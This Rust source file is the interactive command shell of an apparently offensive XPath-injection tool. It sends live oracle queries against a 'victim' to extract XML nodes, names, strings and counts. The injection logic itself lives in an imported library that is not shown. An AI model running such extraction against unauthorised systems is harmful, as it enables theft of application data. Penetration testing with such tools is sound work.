//! Interactive shell over the extraction primitives.
//!
//! Every command issues live oracle queries against the victim, so deep
//! `get` invocations can take a while on slow oracles.

use anyhow::Result;
use dialoguer::Input;
use xtractor::{func, AttackContext, Expression, Extractor, HttpOracle};

const HELP: &str = "\
Commands:
  get <path>      Extract the subtree rooted at <path> (default /*[1])
  text <path>     Recover the string value of <path>
  name <path>     Recover the node name of <path>
  count <path>    Count the nodes matching <path>
  features        Show the probed feature flags
  injection       Show the selected injection
  help            This help
  exit            Leave the shell";

pub async fn shell_loop(context: &AttackContext) -> Result<()> {
    let oracle = HttpOracle::new(context);
    let extractor = Extractor::for_context(&oracle, context);

    println!("{}", HELP);
    loop {
        let line: String = Input::new()
            .with_prompt("xtractor")
            .allow_empty(true)
            .interact_text()?;
        let mut parts = line.split_whitespace();
        let Some(command) = parts.next() else {
            continue;
        };
        let argument = parts.next().unwrap_or("/*[1]").to_string();

        match command {
            "exit" | "quit" => break,
            "help" => println!("{}", HELP),
            "features" => {
                let mut flags: Vec<_> = context.features.iter().collect();
                flags.sort();
                for (name, enabled) in flags {
                    println!("{}: {}", name, enabled);
                }
            }
            "injection" => match &context.injection {
                Some(injection) => {
                    println!("{}", injection.name);
                    println!("Example: {}", injection.example);
                }
                None => println!("no injection selected"),
            },
            "get" => match extractor.get_nodes(&argument).await {
                Ok(node) => print!("{}", node),
                Err(error) => eprintln!("error: {}", error),
            },
            "text" => match extractor.get_string(&Expression::raw(&argument)).await {
                Ok(value) => println!("{}", value),
                Err(error) => eprintln!("error: {}", error),
            },
            "name" => {
                let expr = func::name(Expression::raw(&argument));
                match extractor.get_string(&expr).await {
                    Ok(value) => println!("{}", value),
                    Err(error) => eprintln!("error: {}", error),
                }
            }
            "count" => match extractor.count_nodes(&Expression::raw(&argument)).await {
                Ok(count) => println!("{}", count),
                Err(error) => eprintln!("error: {}", error),
            },
            other => println!("unknown command '{}'; try help", other),
        }
    }
    Ok(())
}
